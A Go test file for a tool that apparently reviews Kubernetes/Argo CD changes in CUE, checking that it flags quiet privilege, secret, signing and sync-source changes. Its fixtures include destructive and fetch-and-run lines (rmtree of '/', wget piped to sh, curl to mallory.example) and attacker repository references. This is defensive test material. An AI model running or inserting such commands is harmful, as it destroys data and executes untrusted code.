package cli_test

import (
	"fmt"
	"strings"
)

// pullsOfPower change who may do what without a word of RBAC: fields of kinds that nobody thinks of, and new objects
// that ask for what old ones have.
func pullsOfPower() []pull {
	told := []string{"change/power-changed"}
	object := func(kind, name, fields string) string {
		return inTarget(kind, name, `{apiVersion: "`+versions[kind]+`", kind: "`+kind+`", metadata: {name: "`+name+`", namespace: "notebook-ci"}, `+fields+`}`)
	}
	changed := func(name, kind, before, after string, wants ...string) pull {
		return pull{kind: "power", name: name, exit: -1, wants: append(wants, told...), base: map[string]string{prod: object(kind, "x", before)}, head: map[string]string{prod: object(kind, "x", after)}}
	}
	added := func(name, kind, object string, wants ...string) pull {
		return pull{kind: "new", name: name, exit: -1, wants: wants, head: map[string]string{prod: inTarget(kind, "y", object)}}
	}
	daemon := func(annotations, fields string) string {
		return `spec: {selector: matchLabels: a: "b", template: {metadata: {labels: a: "b", annotations: {` + annotations + `}}, spec: {` + fields + `containers: [{name: "a", image: "a"}]}}}`
	}
	alerts := func(names ...string) string {
		var rules []string
		for _, n := range names {
			rules = append(rules, fmt.Sprintf(`{alert: %q, expr: "up == 0"}`, n))
		}
		return `spec: groups: [{name: "g", rules: [` + strings.Join(rules, ", ") + `]}]`
	}
	const owner = `[{apiVersion: "v1", kind: "Node", name: "gone", uid: "00000000-0000-4000-8000-000000000000"}]`
	all := []pull{
		changed("a token for pods", "DaemonSet", daemon("", "automountServiceAccountToken: false, "), daemon("", "automountServiceAccountToken: true, "), "a token of their account"),
		changed("an audience", "DaemonSet", daemon("", ""), daemon("", `volumes: [{name: "t", projected: sources: [{serviceAccountToken: {path: "t", audience: "vault"}}]}], `), "a token of their account"),
		changed("secrets of a driver", "DaemonSet", daemon("", ""), daemon("", `volumes: [{name: "c", csi: {driver: "secrets-store.csi.k8s.io", readOnly: true}}], `)),
		changed("processes of others", "DaemonSet", daemon("", ""), daemon("", "shareProcessNamespace: true, ")),
		changed("a role by an annotation", "DaemonSet", daemon("", ""), daemon(`"iam.amazonaws.com/role": "admin"`, ""), "annotations of pods"),
		changed("another network", "DaemonSet", daemon("", ""), daemon(`"k8s.v1.cni.cncf.io/networks": "host-net"`, "")),
		{kind: "power", name: "what people read", exit: -1, never: told, base: map[string]string{prod: object("DaemonSet", "x", daemon("", ""))}, head: map[string]string{prod: object("DaemonSet", "x", daemon(`"checksum/config": "1", "kubernetes.io/description": "x"`, ""))}},
		changed("alerts that go", "PrometheusRule", alerts("A", "B"), alerts("A"), "what people are told of"),
		{kind: "power", name: "alerts that come", exit: -1, never: told, base: map[string]string{prod: object("PrometheusRule", "x", alerts("A"))}, head: map[string]string{prod: object("PrometheusRule", "x", alerts("A", "B"))}},
		changed("no limits", "LimitRange", `spec: limits: [{type: "Container", max: cpu: "1"}]`, `spec: limits: [{type: "Container", max: cpu: "100"}]`),
		changed("no quota of GPUs", "ResourceQuota", `spec: hard: {"requests.nvidia.com/gpu": "8", pods: "10"}`, `spec: hard: pods: "10"`, "requests.nvidia.com/gpu"),
		changed("a queue for all", "ClusterQueue", `spec: namespaceSelector: matchLabels: a: "b"`, `spec: namespaceSelector: {}`, "who may use the GPUs"),
		changed("other nodes", "EC2NodeClass", `spec: {role: "r", amiFamily: "AL2023", amiSelectorTerms: [{alias: "al2023@v20240101"}], metadataOptions: httpTokens: "required"}`, `spec: {role: "r", amiFamily: "AL2023", amiSelectorTerms: [{id: "ami-0123456789abcdef0"}], metadataOptions: httpTokens: "optional"}`, "- required", "+ optional"),
		changed("a gateway", "Ingress", `spec: {ingressClassName: "a", defaultBackend: service: {name: "x", port: number: 80}}`, `spec: {ingressClassName: "a", defaultBackend: service: {name: "y", port: number: 80}}`),
		changed("what an event is", "TriggerBinding", `spec: params: [{name: "repository", value: "$(body.repository.clone_url)"}]`, `spec: params: [{name: "repository", value: "$(body.pull_request.head.repo.clone_url)"}]`),
		changed("what a sync waits for", "Job", hookJob("check"), hookJob("true"), "waits for"),
		changed("a kind that nobody knows", "ClusterInterceptor", `spec: clientConfig: url: "https://a.example.com"`, `spec: clientConfig: url: "https://b.example.com"`),
		{kind: "power", name: "an owner that is not there", exit: 1, wants: append(told, "operations/owner-reference"), head: map[string]string{prod: "package platform\ntargets: phase1: NetworkPolicy: \"default-deny\": metadata: ownerReferences: " + owner + "\n"}},
		{kind: "power", name: "another cluster", exit: -1, wants: told, head: map[string]string{ofProd: `cluster: "prod"=>cluster: "other"`}},

		added("a job with a key", "Job", `{apiVersion: "batch/v1", kind: "Job", metadata: {name: "y", namespace: "notebook-ci"}, spec: template: spec: {restartPolicy: "Never", serviceAccountName: "gpu-pipeline", containers: [{name: "a", image: "a", env: [{name: "K", valueFrom: secretKeyRef: {name: "cosign", key: "cosign.key"}}]}]}}`, "which secrets pods get", "the rights of their account"),
		added("a secret of a vault", "ExternalSecret", `{apiVersion: "external-secrets.io/v1", kind: "ExternalSecret", metadata: {name: "y", namespace: "notebook-ci"}, spec: {secretStoreRef: {name: "vault", kind: "ClusterSecretStore"}, target: name: "y", dataFrom: [{extract: key: "prod/database/root"}]}}`, "change/source-changed"),
		{kind: "new", name: "a role that is bound already", exit: -1, wants: []string{"bind the role of that name"}, head: map[string]string{prod: inTarget("ClusterRole", `"system:public-info-viewer"`, `{apiVersion: "rbac.authorization.k8s.io/v1", kind: "ClusterRole", metadata: name: "system:public-info-viewer", rules: [{apiGroups: [""], resources: ["nodes/proxy"], verbs: ["get"]}]}`)}},
		added("a namespace without limits", "Namespace", `{apiVersion: "v1", kind: "Namespace", metadata: name: "y"}`, "Pod Security level"),
		added("pods that no policy limits", "Deployment", `{apiVersion: "apps/v1", kind: "Deployment", metadata: {name: "y", namespace: "elsewhere"}, spec: {selector: matchLabels: a: "c", template: {metadata: labels: a: "c", spec: containers: [{name: "a", image: "a"}]}}}`, "change/network-opened"),
		added("an API of one's own", "APIService", `{apiVersion: "apiregistration.k8s.io/v1", kind: "APIService", metadata: name: "v1.apps", spec: {group: "apps", version: "v1", insecureSkipTLSVerify: true, groupPriorityMinimum: 17800, versionPriority: 100, service: {name: "x", namespace: "notebook-ci"}}}`, "change/power-changed"),
		added("a listener", "EventListener", `{apiVersion: "triggers.tekton.dev/v1beta1", kind: "EventListener", metadata: {name: "y", namespace: "notebook-ci"}, spec: {serviceAccountName: "x", triggers: [{name: "push", interceptors: [{ref: {name: "cel", kind: "ClusterInterceptor"}, params: [{name: "filter", value: "true || 'compareSecret' == ''"}]}], template: ref: "x"}]}}`, "triggers/unsigned-events", "which events start runs"),
		added("an object without a name", "ConfigMap", `{apiVersion: "v1", kind: "ConfigMap", metadata: {name: "", generateName: "x-", namespace: "notebook-ci"}, data: a: "b"}`),

		{kind: "beside", name: "a root of trust", exit: 1, wants: []string{"change/signing-weakened"}, base: map[string]string{"cue/platform/trusted_root.json": `{"a": 1}`}, head: map[string]string{"cue/platform/trusted_root.json": `{"a": 2}`}},
		{kind: "beside", name: "no root of trust", exit: 1, wants: []string{"change/signing-weakened"}, base: map[string]string{"cue/platform/trusted_root.json": `{"a": 1}`}, head: map[string]string{"cue/platform/trusted_root.json": ""}},
		{kind: "beside", name: "settings of a source", exit: 1, wants: []string{"overlay/file-name"}, head: map[string]string{"cue/platform/prod/.argocd-source.yaml": "kustomize: {}\n"}},
		{kind: "beside", name: "a kustomization", exit: 1, wants: []string{"overlay/file-name"}, head: map[string]string{"cue/platform/prod/kustomization.yaml": "resources: [https://github.com/attacker/repo]\n"}},
		{kind: "beside", name: "a workflow", exit: -1, wants: told, base: map[string]string{prod: "package platform\nfiles: phase1: \"github/x.yaml\": \"permissions: {}\\n\"\n"}, head: map[string]string{prod: "package platform\nfiles: phase1: \"github/x.yaml\": \"permissions: {contents: write}\\n\"\n"}},
		{kind: "beside", name: "the workflow of another repository", exit: -1, wants: []string{"github.com/attacker/notebooks"}, base: map[string]string{prod: "package platform\nfiles: phase1: \"github/x.yaml\": \"a: b\\n\"\n"}, head: map[string]string{prod: "package platform\nfiles: phase1: \"github/x.yaml\": \"uses: attacker/notebooks/.github/workflows/x.yaml@main\\n\"\n"}},

		{kind: "new", name: "a number that no computer holds", exit: 1, wants: []string{"schema/invalid-value", "cue/platform/prod/x.cue:2"}, head: map[string]string{prod: inTarget("ConfigMap", "m", `{apiVersion: "v1", metadata: namespace: "notebook-ci", data: a: 1e400}`)}},
		{kind: "sync", name: "another repository, under another name", exit: 1, wants: []string{"change/sync-moved"}, base: map[string]string{prod: inArgoCD("")}, head: map[string]string{prod: inArgoCD(`repository: "https://github.com/mallory/platform", namespace: "argo-cd"`)}},
		{kind: "sync", name: "an Application in the place of a set", exit: 1, wants: []string{"change/sync-moved"}, base: map[string]string{prod: inArgoCD("")}, head: map[string]string{prod: strings.ReplaceAll(application("b"), "example/gpu", "mallory/gpu")}},
		{kind: "sync", name: "an environment that is no longer listed", exit: 1, wants: []string{"change/sync-moved"}, base: map[string]string{prod: listedSet("prod")}, head: map[string]string{prod: listedSet("")}},
		{kind: "judges", name: "an environment that hides another", exit: 1, wants: []string{"cannot be called argocd"}, head: map[string]string{"cue/platform/argocd/x.cue": strings.ReplaceAll(two, "dev", "argocd") + "}", "cue/platform/platform.cue": statusOfOne}},
		{kind: "judges", name: "clusters that are swapped", exit: 1, wants: []string{"change/supply-chain-changed", "change/rule-weakened"},
			base: map[string]string{"cue/platform/dev/dev.cue": two + "}", "cue/platform/platform.cue": statusOfOne, prod: "package platform\nplatform: supplyChain: builders: [\"https://good.example\"]\nplatform: rules: \"rbac/wildcard\": {severity: \"error\", reason: \"we mean it here\"}\nplatform: gate: failOn: \"warning\"\n"},
			head: map[string]string{"cue/platform/dev/dev.cue": `cluster: "dev"=>cluster: "prod"`, ofProd: `cluster: "prod"=>cluster: "dev"`}},
		{kind: "signing", name: "a hook", exit: 1, wants: []string{"change/signing-weakened"}, base: map[string]string{prod: signed("")}, head: map[string]string{prod: signed("targets: [string]: ClusterImagePolicy: p: metadata: annotations: {\"argocd.argoproj.io/hook\": \"PreSync\", \"argocd.argoproj.io/hook-delete-policy\": \"HookSucceeded\"}\n")}},
		{kind: "lines", name: "a file that is too long to show", exit: -1, wants: []string{"deploy_tool.cue"}, base: map[string]string{"cue/platform/deploy_tool.cue": long("a")}, head: map[string]string{"cue/platform/deploy_tool.cue": long("b")}},
		{kind: "lines", name: "another lock that a forge folds", exit: 1, wants: []string{"input/gitattributes"}, head: map[string]string{".gitattributes": "*.lock.cue -diff\n", "cue/platform/more.lock.cue": "package platform\n"}},
		{kind: "lines", name: "rules that come in another order", exit: -1, wants: []string{"NodeFeatureRule/x"}, base: map[string]string{prod: features("a", "b")}, head: map[string]string{prod: features("b", "a")}},
		{kind: "lines", name: "an image that runs elsewhere already", exit: -1, wants: []string{"change/unexplained", "Task/x"}, base: map[string]string{prod: withImage("a") + strings.ReplaceAll(strings.TrimPrefix(withImage("b"), "package platform\n"), "Task: x", "Task: y")}, head: map[string]string{prod: withImage("b") + strings.ReplaceAll(strings.TrimPrefix(withImage("b"), "package platform\n"), "Task: x", "Task: y")}},

		{kind: "sync", name: "another namespace alone", exit: -1, never: []string{"change/sync-moved"}, base: map[string]string{prod: inArgoCD("")}, head: map[string]string{prod: inArgoCD(`namespace: "argo-cd"`)}},
		{kind: "sync", name: "an Application for another", exit: 1, wants: []string{"change/sync-moved"}, base: map[string]string{prod: application("a")}, head: map[string]string{prod: strings.ReplaceAll(application("b"), `"x"`, `"z"`)}},

		{kind: "new", name: "a secret for another namespace", exit: -1, wants: []string{"change/source-changed"}, base: map[string]string{prod: external("notebook-ci", "")}, head: map[string]string{prod: external("notebook-ci", "") + strings.TrimPrefix(external("elsewhere", ""), "package platform\n")}},
		{kind: "new", name: "what becomes of a secret", exit: -1, wants: []string{"change/source-changed", "spec.target"}, base: map[string]string{prod: object("ExternalSecret", "x", externalSpec(""))}, head: map[string]string{prod: object("ExternalSecret", "x", externalSpec(`, template: type: "kubernetes.io/service-account-token"`))}},
		added("a role of a cloud", "Role", `{apiVersion: "iam.aws.upbound.io/v1beta1", kind: "Role", metadata: {name: "y", namespace: "notebook-ci"}, spec: forProvider: {}}`, "change/power-changed"),
		added("a service of another group", "Service", `{apiVersion: "serving.knative.dev/v1", kind: "Service", metadata: {name: "y", namespace: "notebook-ci"}, spec: template: {}}`, "change/power-changed"),
		added("rights of another kind", "SecurityContextConstraints", `{apiVersion: "security.openshift.io/v1", kind: "SecurityContextConstraints", metadata: name: "y", allowPrivilegedContainer: true}`, "change/power-changed", "allowPrivilegedContainer"),
		changed("a sandbox that is none", "RuntimeClass", `handler: "runsc"`, `handler: "runc"`),
		{kind: "new", name: "a policy for other pods", exit: -1, wants: []string{"pods that are not among the objects"}, head: map[string]string{prod: inTarget("NetworkPolicy", `"kube-system/y"`, `{apiVersion: "networking.k8s.io/v1", kind: "NetworkPolicy", metadata: {name: "y", namespace: "kube-system"}, spec: {podSelector: {}, policyTypes: ["Ingress"], ingress: [{}]}}`)}},
		changed("a token of Prometheus", "ServiceMonitor", `spec: endpoints: [{port: "http"}]`, `spec: endpoints: [{port: "http", bearerTokenFile: "/var/run/secrets/kubernetes.io/serviceaccount/token"}]`),
		{kind: "new", name: "settings that move", exit: -1, wants: told, base: map[string]string{prod: configMapIn("elsewhere")}, head: map[string]string{prod: configMapIn("kube-system")}},
		changed("an alert that never fires", "PrometheusRule", alerts("A", "B"), strings.Replace(alerts("A", "B"), "up == 0", "up == 42", 1)),
		{kind: "power", name: "alerts under another name", exit: -1, wants: told, base: map[string]string{prod: object("PrometheusRule", "x", alerts("A", "B"))}, head: map[string]string{prod: object("PrometheusRule", "z", alerts("A"))}},
		changed("events of all namespaces", "EventListener", `spec: {serviceAccountName: "a", triggers: []}`, `spec: {serviceAccountName: "a", triggers: [], namespaceSelector: matchNames: ["*"]}`),
		{kind: "power", name: "a guard of another kind goes", exit: -1, wants: told, base: map[string]string{prod: object("ClusterPolicy", "x", `spec: validationFailureAction: "Enforce"`)}, head: map[string]string{prod: ""}},
		changed("nodes of another class", "NodePool", nodePool("safe"), nodePool("other")),
		changed("mounts with more", "StorageClass", `provisioner: "efs.csi.aws.com", mountOptions: ["nosuid"]`, `provisioner: "efs.csi.aws.com", mountOptions: ["suid"]`),
		changed("a class for all", "PriorityClass", `value: 10`, `value: 10, globalDefault: true`),
		{kind: "beside", name: "commands of the cue tool", exit: -1, wants: []string{"mallory.example"}, head: map[string]string{"cue/platform/build_tool.cue": "package platform\nimport \"tool/exec\"\ncommand: x: exec.Run & {cmd: [\"curl\", \"https://mallory.example/x\"]}\n"}},
		{kind: "beside", name: "whom a mail goes to", exit: -1, wants: []string{"mallory@evil.example"}, base: map[string]string{prod: aTask("mail a@good.example", "")}, head: map[string]string{prod: aTask("mail mallory@evil.example", "")}},
		{kind: "lines", name: "code that no rule knows", exit: 0, wants: []string{"change/unexplained", "Task/x"}, base: map[string]string{prod: aTask("true", "")}, head: map[string]string{prod: aTask("false", "")}},
		{kind: "judges", name: "strictness that goes with a name", exit: 1, wants: []string{"change/rule-weakened"}, base: map[string]string{"cue/platform/old/old.cue": strings.ReplaceAll(two, "dev", "old") + `, gate: failOn: "warning"}`, "cue/platform/platform.cue": statusOfOne}, head: map[string]string{"cue/platform/old/old.cue": "", "cue/platform/new/new.cue": strings.ReplaceAll(two, "dev", "new") + "}"}},

		{kind: "links", name: "a question mark for a byte", head: map[string]string{"cue/platform/\u00e9.cue": "package platform\n", ".gitattributes": "??.cue ident\n"}, exit: 1, wants: []string{"input/gitattributes"}},
		{kind: "links", name: "half a letter", head: map[string]string{"cue/platform/\u00e9.cue": "package platform\n", ".gitattributes": "?\xa9.cue ident\n"}, exit: 1, wants: []string{"input/gitattributes"}},
		{kind: "lines", name: "what a forge folds", head: map[string]string{".gitattributes": "cue/** linguist-generated -diff\n"}, exit: 1, wants: []string{"input/gitattributes", "fold"}},
		{kind: "lines", name: "merges that ask nobody", head: map[string]string{".gitattributes": "*.cue merge=union\n"}, exit: 1, wants: []string{"input/gitattributes"}},
		{kind: "lines", name: "copies that a forge folds", head: map[string]string{".gitattributes": "cue/cue.mod/** linguist-vendored\n*.lock.cue linguist-generated\n"}, exit: 0},
		{kind: "lines", name: "code below names of secrets", exit: -1, wants: []string{"rmtree", "wget${IFS}", "poweroff"},
			base: map[string]string{prod: hooksOf("os.system('true')", "curl", "true")}, head: map[string]string{prod: hooksOf("shutil.rmtree('/')", "wget", "poweroff")}},
	}
	return all
}

// versions are those of the kinds above.
var versions = map[string]string{
	"DaemonSet": "apps/v1", "PrometheusRule": "monitoring.coreos.com/v1", "LimitRange": "v1", "ResourceQuota": "v1", "ClusterQueue": "kueue.x-k8s.io/v1beta1", "EC2NodeClass": "karpenter.k8s.aws/v1",
	"ExternalSecret": "external-secrets.io/v1", "RuntimeClass": "node.k8s.io/v1", "ServiceMonitor": "monitoring.coreos.com/v1", "EventListener": "triggers.tekton.dev/v1beta1", "ClusterPolicy": "kyverno.io/v1", "NodePool": "karpenter.sh/v1",
	"StorageClass": "storage.k8s.io/v1", "PriorityClass": "scheduling.k8s.io/v1", "Ingress": "networking.k8s.io/v1", "TriggerBinding": "triggers.tekton.dev/v1beta1", "Job": "batch/v1", "ClusterInterceptor": "triggers.tekton.dev/v1alpha1",
}

// hookJob is what a hook of Argo CD runs.
func hookJob(command string) string {
	return `metadata: annotations: "argocd.argoproj.io/hook": "Sync", spec: template: spec: {restartPolicy: "Never", containers: [{name: "a", image: "a", command: ["` + command + `"]}]}`
}

// hooksOf is a ConfigMap whose keys are called like secrets and hold what is run.
func hooksOf(python, shell, command string) string {
	return inTarget("ConfigMap", "m", `{apiVersion: "v1", kind: "ConfigMap", metadata: {name: "m", namespace: "notebook-ci"}, data: {"refresh_token.py": "import os\n`+python+`\n", TOKEN_HOOK: "`+shell+`${IFS}-s${IFS}$URL|sh", PASSWORD_CMD: "__import__('os').system('`+command+`')"}}`)
}

// externalSpec is what a vault gives, and what becomes of it.
func externalSpec(target string) string {
	return `spec: {secretStoreRef: {name: "vault", kind: "ClusterSecretStore"}, target: {name: "x"` + target + `}, data: [{secretKey: "a", remoteRef: key: "ci/smtp"}]}`
}

// external is a secret of a vault in a namespace.
func external(namespace, target string) string {
	return inTarget("ExternalSecret", `"`+namespace+`/x"`, `{apiVersion: "external-secrets.io/v1", kind: "ExternalSecret", metadata: {name: "x", namespace: "`+namespace+`"}, `+externalSpec(target)+`}`)
}

// configMapIn is a ConfigMap that stands somewhere.
func configMapIn(namespace string) string {
	return inTarget("ConfigMap", `"`+namespace+`/node-local-dns"`, `{apiVersion: "v1", kind: "ConfigMap", metadata: {name: "node-local-dns", namespace: "`+namespace+`"}, data: Corefile: ".:53 { forward . 9.9.9.9 }"}`)
}

// nodePool has nodes of a class.
func nodePool(class string) string {
	return `spec: template: spec: {nodeClassRef: {group: "karpenter.k8s.aws", kind: "EC2NodeClass", name: "` + class + `"}, requirements: []}`
}

// listedSet is a set of Applications that lists an environment, as the render does, or none.
func listedSet(environment string) string {
	element := ""
	if environment != "" {
		element = `{environment: "` + environment + `", cluster: "prod", path: "overlays/` + environment + `/phase1"}`
	}
	return applications("generators: [{list: elements: [" + element + "]}]")
}

// long is CUE that no review shows.
func long(text string) string {
	return "package platform\n// " + strings.Repeat("x", 1200<<10) + "\n// " + text + "\n"
}

// features are rules of node feature discovery, in an order.
func features(names ...string) string {
	var rules []string
	for _, n := range names {
		rules = append(rules, `{name: "`+n+`", labels: "`+n+`": "true", matchFeatures: []}`)
	}
	return inTarget("NodeFeatureRule", "x", `{apiVersion: "nfd.k8s-sigs.io/v1alpha1", kind: "NodeFeatureRule", metadata: name: "x", spec: rules: [`+strings.Join(rules, ", ")+`]}`)
}

// withImage is a Task with a step of an image.
func withImage(image string) string {
	return inTarget("Task", "x", `{apiVersion: "tekton.dev/v1", kind: "Task", metadata: namespace: "notebook-ci", spec: steps: [{name: "a", image: "registry.example.com/`+image+`@sha256:1111111111111111111111111111111111111111111111111111111111111111", script: "true"}]}`)
}
